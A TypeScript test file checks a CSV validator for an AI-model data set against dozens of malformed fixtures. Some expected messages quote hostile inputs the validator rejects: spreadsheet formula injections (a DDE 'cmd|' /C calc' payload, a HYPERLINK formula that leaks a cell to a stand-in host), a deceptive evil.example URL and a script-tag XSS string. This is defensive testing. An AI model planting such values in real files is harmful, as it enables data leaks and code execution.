import { copyFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { formatIssue } from '../../src/dataset/issues.ts';
import { loadDataset } from '../../src/dataset/load-dataset.ts';

/** The good fixture with one file replaced (models.csv unless named); every problem of the whole data set, formatted. */
function problemsWith(text: string | Buffer, file = 'models.csv'): string[] {
  const dir = mkdtempSync(join(tmpdir(), 'atlas-bad-'));
  cpSync('tests/fixtures/good-data', dir, { recursive: true });
  writeFileSync(join(dir, file), text);
  const { issues, warnings } = loadDataset(dir, { displayDir: 'data', today: '2026-01-01' });
  return [...issues, ...warnings].map(formatIssue);
}
const fixture = (name: string) => readFileSync(join('tests/fixtures/bad', name));
/**
 * `surveys.some-case.csv` replaces surveys.csv, `survey-table.some-case.csv` the fixture's printed
 * survey table; a name without a prefix replaces models.csv.
 */
const target = (name: string) => (name.startsWith('survey-table.') ? 'surveys/s-2023/cards.csv' : (/^([a-z-]+)\.[a-z0-9-]+\.csv$/.exec(name)?.[1]?.concat('.csv') ?? 'models.csv'));

// Each malformed file in tests/fixtures/bad/ and exactly what the validator says about it.
const CORPUS: [string, string[]][] = [
  ['active-exceeds-total.csv', ['data/models.csv:2:7: active_params_billion: 200 active exceeds 100 total parameters']],
  ['bad-date.csv', ['data/models.csv:2:5: release_date: expected a month 01–12, got "2023-13"']],
  [
    'bad-id.csv',
    [
      'data/models.csv:2:1: id: expected a lowercase id of letters, digits, "-", "_" and "." (like "llama-2-70b"), got "Base 7B" (skipped until this is fixed: 4 ids that point at it)',
    ],
  ],
  ['blank-lines.csv', []],
  ['booleans-not-yes-no.csv', ['data/models.csv:2:10: instruction_tuned: expected "yes" or "no", got "true"', 'data/models.csv:2:11: rlhf: expected "yes" or "no", got "false"']],
  ['cjk-emoji-bom-crlf.csv', []],
  [
    'dangling-keys.csv',
    [
      'data/models.csv:3:9: base_model: "base-8b" is not an id in models.csv — did you mean "base-7b"?',
      'data/models.csv:3:21: reference: "ref-b" is not an id in references.csv — did you mean "ref-a"?',
    ],
  ],
  ['data-cutoff-future.csv', ['data/models.csv:2:14: data_cutoff: 2999-01 is in the future (today is 2026-01-01)']],
  ['duplicate-header.csv', ['data/models.csv:1:23: duplicate column "name" (also column 2)']],
  ['duplicate-id.csv', ['data/models.csv:3:1: id: duplicate "base-7b" (first on line 2)']],
  ['emoji-joiner.csv', []],
  ['empty-file.csv', ['data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids that point into it)']],
  [
    'formula-cells.csv',
    [
      'data/models.csv:2:2: name: starts with "=", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "=HYPERLINK(\\"http://example.com\\")"',
      'data/models.csv:2:22: locator: starts with "@", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "@SUM(A1)"',
      'data/models.csv:3:22: locator: starts with "+", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "+Lab"',
    ],
  ],
  [
    'formula-dde.csv',
    [
      'data/models.csv:2:2: name: starts with "-", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "-2+3+cmd|\' /C calc\'!A0"',
      'data/models.csv:2:22: locator: starts with "@", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "@SUM(A1:A9)"',
      'data/models.csv:3:22: locator: starts with "+", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "+1+1"',
    ],
  ],
  [
    'formula-hyperlink.csv',
    [
      'data/models.csv:2:2: name: starts with "=", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "=HYPERLINK(\\"http://example.com/?leak=\\"&A1,\\"details\\")"',
    ],
  ],
  [
    'formula-leading-tab.csv',
    ['data/models.csv:2:4: organization: contains a tab at position 1; use a space', 'data/models.csv:3:22: locator: contains a tab at position 1; use a space'],
  ],
  ['formula-lookalikes.csv', []],
  ['future-date.csv', ['data/models.csv:2:5: release_date: 2999-01 is in the future (today is 2026-01-01)']],
  [
    'organization-and-hardware.csv',
    [
      'data/models.csv:2:4: organization: "meta" is not an id in organizations.csv',
      'data/models.csv:2:16: hardware_type: expected one of v100, a100, a100-40gb, a100-80gb, a800, a800-80gb, h100, h100-80gb, h800, h20, h200, b200, gb200, mi250x, mi300x, tpu-v2, tpu-v3, tpu-v4, tpu-v5e, tpu-v5p, tpu-v6e, ascend-910, ascend-910b, gpu, got "A100 80GB" — did you mean "a100-80gb"?',
      'data/models.csv:3:25: co_organization: "example-lab" is already the organization; leave co_organization empty or name the second organization',
    ],
  ],
  [
    'organizations.bad-cells.csv',
    [
      'data/organizations.csv:2:4: country: expected one of AE, AT, CA, CH, CN, CZ, DE, FR, GB, IL, IN, JP, KR, NL, RU, SG, US, got "USA" — did you mean "US"?',
      'data/organizations.csv:2:5: kind: expected one of company, lab, university, collective, got "Lab" — did you mean "lab"?',
      'data/organizations.csv:2:7: reference: "ref-z" is not an id in references.csv — did you mean "ref-a"?',
    ],
  ],
  [
    'header-only.csv',
    [
      'data/architectures.csv:2:1: model_id: "base-7b" is not an id in models.csv',
      'data/provenance.csv:2:2: model_id: "base-7b" is not an id in models.csv',
      'data/surveys/s-2023/cards.csv:2:13: model_id: "base-7b" is not an id in models.csv',
      'data/training.csv:2:1: model_id: "base-7b" is not an id in models.csv',
    ],
  ],
  ['html-in-text.csv', []],
  ['id-file-name.csv', ['data/models.csv:4:1: id: expected an id that does not end like a file name (".html"), got "index.html" — it names a folder of the built site']],
  ['id-too-long.csv', ['data/models.csv:4:1: id: is 300 characters long; an id holds at most 80']],
  ['invalid-utf8.csv', ['data/models.csv:3:14: is not valid UTF-8 (byte 0xff); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)']],
  [
    'key-column-renamed.csv',
    [
      'data/models.csv:1:1: unknown column "ID"; expected one of id, name, family, organization, release_date, params_billion, active_params_billion, access, base_model, instruction_tuned, rlhf, pretrain_tokens_billion, pretrain_data_gb, data_cutoff, hardware_count, hardware_type, training_days, eval_icl, eval_cot, url, reference, locator, paper_date, open_weights_date, co_organization',
      'data/models.csv:1:26: missing column "id" (skipped until this is fixed: 5 ids that point into it)',
    ],
  ],
  ['latin1-encoded.csv', ['data/models.csv:2:12: is not valid UTF-8 (byte 0xe9); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)']],
  ['missing-column.csv', ['data/models.csv:1:25: missing column "access"']],
  ['missing-required.csv', ['data/models.csv:2:21: reference: required, but the cell is empty']],
  ['mixed-line-endings.csv', []],
  [
    'name-invisible-only.csv',
    [
      'data/models.csv:2:2: name: contains the invisible character U+200B at position 1; remove it',
      'data/models.csv:3:2: name: has no visible character, got "ㅤ"; write the text or leave the cell empty',
    ],
  ],
  ['negative-number.csv', ['data/models.csv:2:6: params_billion: expected a number ≥ 0, got "-7"']],
  ['newline-in-cell.csv', ['data/models.csv:2:2: name: contains a line break; keep a cell on one line']],
  ['nul-bytes.csv', ['data/models.csv:2:13: contains a NUL byte: this is not a CSV text file (skipped until this is fixed: 4 ids that point into it)']],
  [
    'number-beyond-2-53.csv',
    [
      'data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got "100000000000000000000000" — numbers beyond 9007199254740991 (2^53 − 1) lose digits',
      'data/models.csv:2:15: hardware_count: expected a whole number in accelerators, got "12345678901234567890123" — numbers beyond 9007199254740991 (2^53 − 1) lose digits',
      'data/models.csv:3:6: params_billion: expected a plain number in billions, got "1e400" — numbers beyond 9007199254740991 (2^53 − 1) lose digits',
      'data/models.csv:3:15: hardware_count: expected a whole number in accelerators, got "9007199254740993" — numbers beyond 9007199254740991 (2^53 − 1) lose digits',
    ],
  ],
  [
    'number-negative-zero.csv',
    [
      'data/models.csv:2:6: params_billion: expected a plain number in billions, got "-0" — write 0 without a minus sign',
      'data/models.csv:2:13: pretrain_data_gb: expected a plain number in gigabytes, got "-0.0" — write 0 without a minus sign',
    ],
  ],
  [
    'number-rounded.csv',
    [
      'data/models.csv:2:6: params_billion: expected a plain number in billions, got "0.1000000000000000055511151231257827" — it has more digits than can be stored and would become 0.1',
      'data/models.csv:2:17: training_days: expected a plain number in days, got "21.000000000000001" — it has more digits than can be stored and would become 21',
      'data/models.csv:3:15: hardware_count: expected a whole number, got "2048.5"',
    ],
  ],
  [
    'number-underflow.csv',
    [
      'data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got "1e-400" — it is too small to store and would become 0',
      'data/models.csv:3:17: training_days: expected a plain number in days, got "1e-330" — it is too small to store and would become 0',
    ],
  ],
  ['only-bom.csv', ['data/models.csv:1:1: file is empty; expected a header row (skipped until this is fixed: 4 ids that point into it)']],
  [
    'provenance.column-not-a-value.csv',
    [
      'data/provenance.csv:3:3: column: "reference" is not a value column of models.csv; a cell\'s own source goes in the reference and locator columns of this provenance row',
      'data/provenance.csv:4:3: column: "refrence" is not a value column of models.csv',
      'data/provenance.csv:5:3: column: "relese_date" is not a value column of models.csv — did you mean "release_date"?',
    ],
  ],
  [
    'references.uncited.csv',
    ['data/references.csv:3:1: warning: id: "ref-b" is cited by no row of models.csv, architectures.csv, training.csv, provenance.csv, organizations.csv; cite it or remove it'],
  ],
  [
    'references.unclosed-quote.csv',
    [
      'data/references.csv:2:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 5 ids that point into it)',
      'data/references.csv:2:2: too few fields: expected 6, got 1',
    ],
  ],
  ['rtl-override.csv', ['data/models.csv:2:2: name: contains the invisible control character U+202E at position 6; remove it']],
  ['self-base.csv', ['data/models.csv:3:9: base_model: a model cannot be its own base model']],
  ['semicolon-delimited.csv', ['data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 1 row of this file, 4 ids that point into it)']],
  [
    'semicolon-with-commas.csv',
    ['data/models.csv:1:1: header is separated by semicolons; use commas (skipped until this is fixed: 2 rows of this file, 4 ids that point into it)'],
  ],
  ['stray-quote.csv', []],
  [
    'survey-table.formula-cells.csv',
    [
      'data/surveys/s-2023/cards.csv:2:4: size: starts with "=", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "=7*1"',
      'data/surveys/s-2023/cards.csv:2:8: bias: starts with "@", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "@x"',
      'data/surveys/s-2023/cards.csv:2:12: mcl: starts with "+", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got "+2048+0"',
    ],
  ],
  ['surveys.id-file-name.csv', ['data/surveys.csv:3:1: id: expected an id that does not end like a file name (".html"), got "index.html" — it names a folder of the built site']],
  ['tab-delimited.csv', ['data/models.csv:1:1: header is separated by tabs; use commas (skipped until this is fixed: 1 row of this file, 4 ids that point into it)']],
  [
    'text-zero-width.csv',
    [
      'data/models.csv:2:2: name: contains the invisible character U+200B at position 5; remove it',
      'data/models.csv:2:22: locator: contains the invisible character U+E0041 at position 8; remove it',
      'data/models.csv:3:2: name: contains the invisible character U+200C at position 5; remove it',
      'data/models.csv:3:22: locator: contains the invisible character U+200D at position 8; remove it',
      'data/models.csv:4:2: name: contains the invisible character U+2060 at position 8; remove it',
      'data/models.csv:4:22: locator: contains the invisible character U+00AD at position 5; remove it',
    ],
  ],
  ['thousands-separator.csv', ['data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got "1,000" — drop the thousands separators']],
  ['too-few-fields.csv', ['data/models.csv:2:4: too few fields: expected 25, got 3']],
  ['too-many-fields.csv', ['data/models.csv:2:26: too many fields: expected 25, got 26']],
  ['trailing-comma.csv', ['data/models.csv:2:26: too many fields: expected 25, got 26']],
  [
    'unclosed-quote.csv',
    [
      'data/models.csv:3:1: a quoted field is never closed: add the closing double quote (skipped until this is fixed: 4 ids that point into it)',
      'data/models.csv:3:2: too few fields: expected 25, got 1',
    ],
  ],
  [
    'units-in-numbers.csv',
    [
      'data/models.csv:2:6: params_billion: expected a plain number in billions, got "7B" — drop the unit',
      'data/models.csv:2:12: pretrain_tokens_billion: expected a plain number in billions of tokens, got "1.4T" — drop the unit',
    ],
  ],
  [
    'unknown-column.csv',
    [
      'data/models.csv:1:23: unknown column "size"; expected one of id, name, family, organization, release_date, params_billion, active_params_billion, access, base_model, instruction_tuned, rlhf, pretrain_tokens_billion, pretrain_data_gb, data_cutoff, hardware_count, hardware_type, training_days, eval_icl, eval_cot, url, reference, locator, paper_date, open_weights_date, co_organization',
    ],
  ],
  ['unknown-enum.csv', ['data/models.csv:2:8: access: expected one of open-weights, api, closed, got "Open Weights" — did you mean "open-weights"?']],
  ['url-huge.csv', ['data/models.csv:2:20: url: is 1000033 characters long; a URL holds at most 500']],
  [
    'url-invisible.csv',
    [
      'data/models.csv:2:20: url: contains the invisible character U+202E at position 23; remove it',
      'data/models.csv:3:20: url: contains the invisible character U+200B at position 28; remove it',
    ],
  ],
  ['url-newline.csv', ['data/models.csv:2:20: url: contains a line break; keep a cell on one line']],
  [
    'url-space.csv',
    [
      'data/models.csv:2:20: url: contains a space (U+0020) at position 27; a URL has none, write it as %20',
      'data/models.csv:3:20: url: contains a space (U+00A0) at position 27; a URL has none, write it as %20',
    ],
  ],
  ['url-upper-case-scheme.csv', []],
  [
    'url-user-info.csv',
    [
      'data/models.csv:2:20: url: expected a URL without a user name before "@", got "https://arxiv.org@evil.example/abs/2302.00000" — it leads to evil.example, not to what it shows',
      'data/models.csv:3:20: url: contains a backslash at position 21, which browsers read as "/"; write "/" or %5C',
    ],
  ],
  ['utf16-without-bom.csv', ['data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: "CSV UTF-8") (skipped until this is fixed: 4 ids that point into it)']],
  ['utf16.csv', ['data/models.csv:1:1: is UTF-16; save it as UTF-8 (in Excel: "CSV UTF-8") (skipped until this is fixed: 4 ids that point into it)']],
  [
    'windows-1252.csv',
    [
      'data/models.csv:4:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8 (skipped until this is fixed: 4 ids that point into it)',
      'data/models.csv:5:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:6:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:7:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:8:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:9:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:10:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:11:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:12:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:13:8: is not valid UTF-8 (byte 0xe8); save the file as UTF-8',
      'data/models.csv:14:9: is not valid UTF-8 (byte 0xe8), and 1 later line is not either (12 lines in all); save the file as UTF-8',
    ],
  ],
];

describe('the bad-input corpus', () => {
  test.each(CORPUS)('%s', (name, expected) => {
    expect(problemsWith(fixture(name), target(name))).toEqual(expected);
  });

  test('every fixture in the folder is listed above', async () => {
    const { readdirSync } = await import('node:fs');
    expect(readdirSync('tests/fixtures/bad').sort()).toEqual(CORPUS.map(([name]) => name).sort());
    expect(CORPUS.length).toBeGreaterThanOrEqual(30);
  });

  test('HTML is kept as text, to be escaped on output', () => {
    const dir = mkdtempSync(join(tmpdir(), 'atlas-html-'));
    cpSync('tests/fixtures/good-data', dir, { recursive: true });
    copyFileSync('tests/fixtures/bad/html-in-text.csv', join(dir, 'models.csv'));
    const { dataset } = loadDataset(dir, { today: '2026-01-01' });
    expect(dataset.models[0]!.data.name).toBe('<script>alert(1)</script>');
  });

  test('a lone "-", a plain number and a minus sign are text a spreadsheet keeps as text, and stay as written', () => {
    const dir = mkdtempSync(join(tmpdir(), 'atlas-formula-'));
    cpSync('tests/fixtures/good-data', dir, { recursive: true });
    copyFileSync('tests/fixtures/bad/formula-lookalikes.csv', join(dir, 'models.csv'));
    const models = loadDataset(dir, { today: '2026-01-01' }).dataset.models.map((m) => m.data);
    expect(models.map((m) => [m.name, m.locator])).toEqual([
      ['−2 Base (a minus sign, not a hyphen)', '-3'],
      ['Lab = team', '-'],
    ]);
  });

  test('an upper-case scheme and an emoji joined by U+200D are accepted and kept exactly as written', () => {
    const load = (name: string) => {
      const dir = mkdtempSync(join(tmpdir(), 'atlas-kept-'));
      cpSync('tests/fixtures/good-data', dir, { recursive: true });
      copyFileSync(join('tests/fixtures/bad', name), join(dir, 'models.csv'));
      return loadDataset(dir, { today: '2026-01-01' }).dataset.models.map((m) => m.data);
    };
    expect(load('url-upper-case-scheme.csv').map((m) => m.url)).toEqual(['HTTPS://arxiv.org/abs/2302.00000', 'Https://huggingface.co/org/model']);
    expect(load('emoji-joiner.csv').map((m) => [m.name, m.locator])[0]).toEqual(['Coder 👩\u200d💻 7B', 'Lab 🏳️\u200d🌈']);
  });

  test('a missing file is reported once, with the checks that wait on it counted', () => {
    const without = (name: string) => {
      const dir = mkdtempSync(join(tmpdir(), 'atlas-missing-'));
      cpSync('tests/fixtures/good-data', dir, { recursive: true });
      rmSync(join(dir, name));
      return loadDataset(dir, { displayDir: 'data', today: '2026-01-01' }).issues.map(formatIssue);
    };
    expect(without('models.csv')).toEqual(['data/models.csv:1:1: file is missing (skipped until this is fixed: 4 ids that point into it)']);
    expect(without('references.csv')).toEqual(['data/references.csv:1:1: file is missing (skipped until this is fixed: 5 ids that point into it)']);
  });

  // On a copy of the real data, where each of these once gave 36 to 392 lines of follow-on errors.
  describe('one broken file of the real data gives its cause, not a flood', () => {
    const broken = (file: string, change: (bytes: Buffer) => Buffer | undefined) => {
      const dir = mkdtempSync(join(tmpdir(), 'atlas-real-'));
      cpSync('data', dir, { recursive: true });
      const next = change(readFileSync(join(dir, file)));
      if (next === undefined) rmSync(join(dir, file));
      else writeFileSync(join(dir, file), next);
      return loadDataset(dir, { displayDir: 'data' }).issues.map(formatIssue);
    };
    test.each([
      ['models.csv', 'missing', () => undefined, /^data\/models\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids that point into it\)$/],
      ['references.csv', 'missing', () => undefined, /^data\/references\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids/],
      [
        'models.csv',
        'separated by semicolons',
        (b: Buffer) => Buffer.from(b.toString('utf8').replace(/,/g, ';')),
        /^data\/models\.csv:1:1: header is separated by semicolons; use commas \(skipped until this is fixed: \d+ rows of this file, \d+ ids/,
      ],
      ['models.csv', 'saved as UTF-16', (b: Buffer) => Buffer.from(`\ufeff${b.toString('utf8')}`, 'utf16le'), /^data\/models\.csv:1:1: is UTF-16; save it as UTF-8/],
      ['architectures.csv', 'missing', () => undefined, /^data\/architectures\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids/],
      [
        'survey-tables.csv',
        'missing',
        () => undefined,
        /^data\/survey-tables\.csv:1:1: file is missing \(skipped until this is fixed: \d+ ids that point into it, \d+ survey table files\)$/,
      ],
      [
        'provenance.csv',
        'separated by semicolons',
        (b: Buffer) => Buffer.from(b.toString('utf8').replace(/,/g, ';')),
        /^data\/provenance\.csv:1:1: header is separated by semicolons; use commas \(skipped until this is fixed: \d+ rows of this file\)$/,
      ],
      ['models.csv', 'with its id column renamed', (b: Buffer) => Buffer.from(b.toString('utf8').replace(/^id,/, 'model,')), /missing column "id" \(skipped until this is fixed/],
    ])('%s %s', (file, _how, change, cause) => {
      const problems = broken(file, change);
      expect(problems.filter((p) => cause.test(p))).toHaveLength(1);
      // The header problems of a renamed column are two lines about one cause; nothing else.
      expect(problems.length).toBeLessThanOrEqual(2);
    });
    test('a file saved as Windows-1252 lists ten bad lines and counts the rest', () => {
      const problems = broken('references.csv', (b) => Buffer.from(b.toString('latin1').replace(/, /g, '\u00e9 '), 'latin1'));
      expect(problems).toHaveLength(11);
      expect(problems.every((p) => p.startsWith('data/references.csv:'))).toBe(true);
      expect(problems[10]).toMatch(/is not valid UTF-8 \(byte 0xe9\), and \d+ later lines are not either \(\d+ lines in all\); save the file as UTF-8$/);
    });
  });

  test('a file of 100,000 rows is read whole and its one bad row is found', () => {
    const header = readFileSync('tests/fixtures/good-data/models.csv', 'utf8').split('\n')[0]!;
    const rows = Array.from({ length: 100_000 }, (_, i) => `m-${i},Model ${i},fam,lab,2023,1,n/a,api,n/a,,,,,,,,,,,,ref-a,,,,`);
    rows[77_776] = rows[77_776]!.replace(',1,n/a,', ',1B,n/a,');
    const text =
      [
        header,
        'base-7b,Base 7B,base,example-lab,2023-02,7,n/a,open-weights,n/a,no,no,1000,,,,,,,,,ref-a,,,,',
        'chat-7b,Chat 7B,base,example-lab,2023-03-01,7,n/a,open-weights,base-7b,yes,yes,,,,,,,,,,ref-a,,,,',
        ...rows,
      ].join('\n') + '\n';
    expect(problemsWith(text)).toEqual(['data/models.csv:77780:6: params_billion: expected a plain number in billions, got "1B" — drop the unit']);
  });

  test('a 1 MB cell is refused with its length, not echoed', () => {
    const header = readFileSync('tests/fixtures/good-data/models.csv', 'utf8').split('\n')[0]!;
    const big = 'x'.repeat(1_000_000);
    const problems = problemsWith(
      `${header}\nbase-7b,${big},base,lab,2023,7,n/a,api,n/a,,,,,,,,,,,,ref-a,,,,\nchat-7b,Chat,base,lab,2023,7,n/a,api,base-7b,,,,,,,,,,,,ref-a,,,,\n`,
    );
    expect(problems).toEqual(['data/models.csv:2:2: name: is 1000000 characters long; a cell holds at most 2000']);
  });
});
